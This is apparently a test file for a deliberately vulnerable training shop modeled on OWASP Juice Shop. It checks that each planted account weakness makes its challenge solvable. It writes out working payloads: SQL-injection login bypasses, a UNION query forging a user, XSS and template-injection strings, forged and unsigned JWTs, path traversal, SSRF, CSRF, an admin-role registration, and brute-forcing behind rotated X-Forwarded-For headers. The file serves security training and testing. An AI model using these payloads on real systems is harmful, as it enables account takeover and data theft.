import { afterEach, describe, expect, it } from 'vitest'
import { type AccountPorts, honestAccountPorts } from '../../../lab/accounts/ports.js'
import { catalogue, challengeKeys } from '../../../lab/challenges/catalogue.js'
import { iframePayload } from '../../../lab/challenges/rules/payloads.js'
import { layOver } from '../../../lab/weaknesses/lay-over.js'
import { accountsWeaknesses } from '../../../lab/weaknesses/lists/accounts.js'
import { weaknesses } from '../../../lab/weaknesses/weaknesses.js'
import { visitDocuments } from '../../support/document-visitor.js'
import { forgeSigned, forgeUnsigned } from '../../support/forge-token.js'
import { type ServedLab, serveLab } from '../../support/serve-lab.js'

const names = accountsWeaknesses.map(({ name }) => name)
const ports = Object.keys(honestAccountPorts) as (keyof AccountPorts)[]

describe('the decisions about accounts', () => {
  it.each(ports)('%s is taken over by one weakness, and left to its honest half without it', (port) => {
    const takers = weaknesses.filter((weakness) => port in weakness.ports).map(({ name }) => name)
    expect(takers).toHaveLength(1)
    const weak = layOver(weaknesses, { isOpen: () => true, fixed: [] })
    const fixed = layOver(weaknesses, { isOpen: () => true, fixed: takers })
    expect(weak[port]).not.toBe(honestAccountPorts[port])
    expect({ ...honestAccountPorts, ...fixed }[port]).toBe(honestAccountPorts[port])
  })

  it.each(accountsWeaknesses)('$name says where it can be met', ({ places }) => {
    expect(places.length).toBeGreaterThan(0)
    for (const { method, path, parameter } of places) {
      expect(['GET', 'POST', 'PUT', 'DELETE']).toContain(method)
      expect([path, parameter]).toEqual([expect.stringMatching(/^\/[\w/:-]+$/), expect.stringMatching(/^[\w-]+$/)])
    }
  })
})

const password = 'figs-and-dates-in-spring'
const internalPath = '/solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'

const asJim = (shop: ServedLab) => visitDocuments(shop, 'jim@juice-sh.op', 'ncc-1701')
const tokenOfJim = async (shop: ServedLab) => (await shop.logIn('jim@juice-sh.op', 'ncc-1701')).token
const register = (shop: ServedLab, fields: Readonly<Record<string, unknown>>) =>
  shop.post('/api/Users', { email: 'new@juice.example', password, passwordRepeat: password, ...fields })
const inject = (email: string) => (shop: ServedLab) => shop.post('/rest/user/login', { email, password: 'x' })
const present = (token: (shop: ServedLab) => string) => (shop: ServedLab) =>
  shop.get('/rest/languages', { token: token(shop) })
const askWhoIAm = (query: string) => async (shop: ServedLab) => (await asJim(shop)).get(`/rest/user/whoami?${query}`)

const accountant = `' UNION SELECT * FROM (SELECT 15 as 'id', '' as 'username', 'acc0unt4nt@juice-sh.op' as 'email', '12345' as 'password', 'accounting' as 'role', '123' as 'deluxeToken', '1.2.3.4' as 'lastLoginIp', '/assets/public/images/uploads/default.svg' as 'profileImage', '' as 'totpSecret', 1 as 'isActive', '1999-08-16 14:14:41.644 +00:00' as 'createdAt', '1999-08-16 14:33:41.930 +00:00' as 'updatedAt', null as 'deletedAt')--`

const resetPassword = (shop: ServedLab, name: string, answer: string, forwardedFor = '10.0.0.1') =>
  shop.post(
    '/rest/user/reset-password',
    { email: `${name}@juice-sh.op`, answer, new: password, repeat: password },
    { headers: { 'X-Forwarded-For': forwardedFor } },
  )

async function guessUnderManyNames(shop: ServedLab): Promise<void> {
  const wrong = Array.from({ length: 105 }, (_, attempt) =>
    resetPassword(shop, 'morty', `snowball${attempt}`, `10.0.0.${attempt}`),
  )
  await Promise.all(wrong)
  await resetPassword(shop, 'morty', '5N0wb41L', '10.0.0.250')
}

async function changePasswordOfBender(shop: ServedLab): Promise<void> {
  await resetPassword(shop, 'bender', "Stop'n'Drop")
  const { token } = await shop.logIn('bender@juice-sh.op', password)
  await shop.get('/rest/user/change-password?new=slurmCl4ssic&repeat=slurmCl4ssic', { token })
}

async function renameFromElsewhere(shop: ServedLab): Promise<void> {
  const form = new URLSearchParams({ username: 'CSRF' })
  await (await asJim(shop)).send('/profile', form, { Origin: 'http://htmledit.squarefree.com' })
}

async function runScriptInName(shop: ServedLab): Promise<void> {
  const jim = await asJim(shop)
  const imageUrl = "https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'"
  await jim.send('/profile/image/url', new URLSearchParams({ imageUrl }))
  await jim.send('/profile', new URLSearchParams({ username: '<<a|ascript>alert(`xss`)</script>' }))
  await jim.get('/profile')
}

async function runCodeInName(shop: ServedLab): Promise<void> {
  const jim = await asJim(shop)
  await jim.send('/profile', new URLSearchParams({ username: '#{7*7}' }))
  await jim.get('/profile')
  await shop.get(internalPath)
}

/** Attacks that need no weakness but those that the challenge names. */
const attacks: Readonly<Record<string, (shop: ServedLab) => Promise<unknown>>> = {
  changePasswordBenderChallenge: changePasswordOfBender,
  csrfChallenge: renameFromElsewhere,
  emailLeakChallenge: askWhoIAm('callback=f'),
  emptyUserRegistration: (shop) => register(shop, { email: '', password: '', passwordRepeat: '' }),
  ephemeralAccountantChallenge: inject(accountant),
  async freeDeluxeChallenge(shop) {
    await shop.post('/rest/deluxe-membership', { paymentMode: '' }, { token: await tokenOfJim(shop) })
  },
  ghostLoginChallenge: inject("chris.pike@juice-sh.op'--"),
  async httpHeaderXssChallenge(shop) {
    const headers = { 'True-Client-IP': iframePayload }
    await shop.get('/rest/saveLoginIp', { token: await tokenOfJim(shop), headers })
  },
  jwtForgedChallenge: present(({ lab }) =>
    forgeSigned({ data: { email: 'rsa_lord@juice-sh.op' } }, lab.accounts.tokens.publicKey),
  ),
  jwtUnsignedChallenge: present(() => forgeUnsigned({ data: { email: 'jwtn3d@juice-sh.op' } })),
  async lfrChallenge(shop) {
    const form = new URLSearchParams({ email: 'x', securityAnswer: 'y', layout: '../package.json' })
    await (await asJim(shop)).send('/dataerasure', form)
  },
  loginAdminChallenge: inject("' or 1=1--"),
  loginBenderChallenge: inject("bender@juice-sh.op'--"),
  loginJimChallenge: inject("jim@juice-sh.op'--"),
  passwordHashLeakChallenge: askWhoIAm('fields=id,password'),
  passwordRepeatChallenge: (shop) => register(shop, { passwordRepeat: 'something else' }),
  persistedXssUserChallenge: (shop) => register(shop, { email: iframePayload }),
  registerAdminChallenge: (shop) => register(shop, { role: 'admin' }),
  resetPasswordMortyChallenge: guessUnderManyNames,
  async ssrfChallenge(shop) {
    const form = new URLSearchParams({ imageUrl: shop.url + internalPath })
    await (await asJim(shop)).send('/profile/image/url', form)
  },
  sstiChallenge: runCodeInName,
  usernameXssChallenge: runScriptInName,
}

const challenges = challengeKeys.flatMap((key) => {
  const needed = catalogue[key].weaknesses.filter((name) => weaknesses.some((weakness) => weakness.name === name))
  return needed.some((name) => names.includes(name)) ? [{ key, needed }] : []
})

describe('what a weakness is enough for', () => {
  let shop: ServedLab
  afterEach(() => shop.close())

  async function attack(key: string, fix: string[]): Promise<boolean> {
    shop = await serveLab({ fix })
    await attacks[key]?.(shop)
    return shop.solved().includes(key)
  }

  it('every challenge that needs one is attacked here', () => {
    shop = { close: async () => {} } as ServedLab
    expect(challenges.map(({ key }) => key).sort()).toEqual(Object.keys(attacks).sort())
  })

  it.each(challenges)('$key is solved where nothing but $needed is open', async ({ key, needed }) => {
    const others = weaknesses.map(({ name }) => name).filter((name) => !needed.includes(name))
    expect(await attack(key, others)).toBe(true)
  })

  it.each(challenges.flatMap(({ key, needed }) => needed.map((name) => ({ key, name }))))(
    '$key is not solved without $name',
    async ({ key, name }) => {
      expect(await attack(key, [name])).toBe(false)
    },
  )
})
